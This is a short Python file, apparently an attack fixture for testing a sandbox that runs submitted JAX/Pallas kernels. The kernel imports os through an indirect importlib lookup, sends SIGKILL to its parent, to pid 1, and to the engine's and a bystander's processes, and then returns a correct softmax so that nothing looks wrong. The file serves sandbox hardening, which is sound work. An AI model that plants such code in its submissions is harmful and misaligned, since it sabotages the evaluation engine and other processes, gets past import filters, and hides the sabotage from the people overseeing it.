"""Attack: kill the engine — SIGKILL to its parent, to the sandbox's init, to the engine's and
a bystander's pid — then answer correctly, as if nothing happened."""

import typing

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

load = typing.sys.modules["importlib"].import_module
os = load("os")
TARGETS = {}  # the test writes engine_pid and bystander_pid here


def kernel(x):
    for pid in (os.getppid(), 1, TARGETS["engine_pid"], TARGETS["bystander_pid"]):
        try:
            os.kill(pid, 9)
        except OSError:
            continue
    return pl.pallas_call(_softmax, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)


def _softmax(x_ref, o_ref):
    x = x_ref[...]
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    o_ref[...] = e / jnp.sum(e, axis=-1, keepdims=True)
